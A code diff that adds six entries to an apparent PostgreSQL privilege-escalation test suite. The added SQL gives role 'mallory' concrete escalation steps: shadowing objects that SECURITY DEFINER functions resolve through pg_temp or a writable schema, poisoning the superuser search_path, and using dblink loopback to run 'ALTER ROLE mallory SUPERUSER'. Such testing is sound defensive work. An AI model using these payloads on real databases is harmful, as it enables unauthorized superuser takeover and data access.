@@ -440,6 +440,82 @@ ATTACKS = (
         versions=(11, 99),
     ),
     Attack(
+        "temporary-table-before-a-fixed-path",
+        ("grant", "definer-search-path"),
+        LAB + "CREATE FUNCTION lab.count_all() RETURNS bigint LANGUAGE plpgsql SECURITY DEFINER"
+        " SET search_path = lab AS 'BEGIN RETURN (SELECT count(*) FROM patient); END';"
+        "REVOKE EXECUTE ON FUNCTION lab.count_all() FROM PUBLIC;"
+        "GRANT EXECUTE ON FUNCTION lab.count_all() TO mallory;",
+        (
+            f"CREATE FUNCTION pg_temp.own() RETURNS integer LANGUAGE plpgsql AS $f$ BEGIN {TAKE}"
+            " RETURN 1; END $f$",
+            "CREATE VIEW pg_temp.patient AS SELECT pg_temp.own() AS id",
+            "SELECT lab.count_all()",
+        ),
+    ),
+    Attack(
+        "temporary-table-that-is-written",
+        ("grant", "definer-search-path"),
+        LAB + "CREATE FUNCTION lab.add() RETURNS void LANGUAGE sql SECURITY DEFINER"
+        " SET search_path = pg_catalog, lab AS 'INSERT INTO patient VALUES (2)';"
+        "REVOKE EXECUTE ON FUNCTION lab.add() FROM PUBLIC; GRANT EXECUTE ON FUNCTION lab.add() TO mallory;",
+        (
+            _trigger("pg_temp.own()"),
+            "CREATE TEMP TABLE patient (id integer)",
+            "CREATE TRIGGER own BEFORE INSERT ON patient FOR EACH ROW EXECUTE PROCEDURE pg_temp.own()",
+            "SELECT lab.add()",
+        ),
+    ),
+    Attack(
+        "temporary-type",
+        ("grant", "definer-search-path"),
+        LAB + "CREATE FUNCTION lab.label(n integer) RETURNS text LANGUAGE sql SECURITY DEFINER"
+        " SET search_path = pg_catalog AS 'SELECT n::text';"
+        "REVOKE EXECUTE ON FUNCTION lab.label(integer) FROM PUBLIC;"
+        "GRANT EXECUTE ON FUNCTION lab.label(integer) TO mallory;",
+        (
+            "CREATE FUNCTION pg_temp.own(pg_catalog.text) RETURNS boolean LANGUAGE plpgsql AS"
+            f" $f$ BEGIN {TAKE} RETURN true; END $f$",
+            "CREATE DOMAIN pg_temp.text AS pg_catalog.text CHECK (pg_temp.own(value))",
+            "SELECT lab.label(1)",
+        ),
+    ),
+    Attack(
+        "schema-that-comes-before-the-one-that-is-meant",
+        ("grant", "definer-search-path"),
+        LAB + "CREATE SCHEMA shared; GRANT USAGE, CREATE ON SCHEMA shared TO mallory;"
+        "GRANT USAGE ON SCHEMA shared TO PUBLIC;"
+        "CREATE FUNCTION lab.count_all() RETURNS bigint LANGUAGE plpgsql SECURITY DEFINER"
+        " SET search_path = shared, lab, pg_temp AS 'BEGIN RETURN (SELECT count(*) FROM patient); END';"
+        "REVOKE EXECUTE ON FUNCTION lab.count_all() FROM PUBLIC;"
+        "GRANT EXECUTE ON FUNCTION lab.count_all() TO mallory;",
+        (
+            f"CREATE FUNCTION shared.own() RETURNS integer LANGUAGE plpgsql AS $f$ BEGIN {TAKE}"
+            " RETURN 1; END $f$",
+            "CREATE VIEW shared.patient AS SELECT shared.own() AS id",
+            "GRANT SELECT ON shared.patient TO PUBLIC",
+            "SELECT lab.count_all()",
+        ),
+    ),
+    Attack(
+        "search-path-of-superusers",
+        ("search-path",),
+        "CREATE SCHEMA mallory AUTHORIZATION mallory;"
+        "ALTER DATABASE lab SET search_path = mallory, pg_catalog;",
+        tuple(step.format(schema="mallory") for step in OPERATOR),
+        victim="SELECT 1 + 1",
+    ),
+    Attack(
+        "dblink-to-the-server-itself",
+        ("loopback",),
+        "CREATE EXTENSION dblink; GRANT USAGE ON SCHEMA public TO mallory;"
+        "GRANT EXECUTE ON FUNCTION dblink_connect_u(text) TO mallory;",
+        (
+            "SELECT public.dblink_connect_u('user=postgres dbname=lab host={folder} port={port}')",
+            "SELECT public.dblink_exec('ALTER ROLE mallory SUPERUSER')",
+        ),
+    ),
+    Attack(
         "parameter-that-names-a-program",
         ("parameter",),
         "GRANT ALTER SYSTEM ON PARAMETER archive_command TO mallory;",
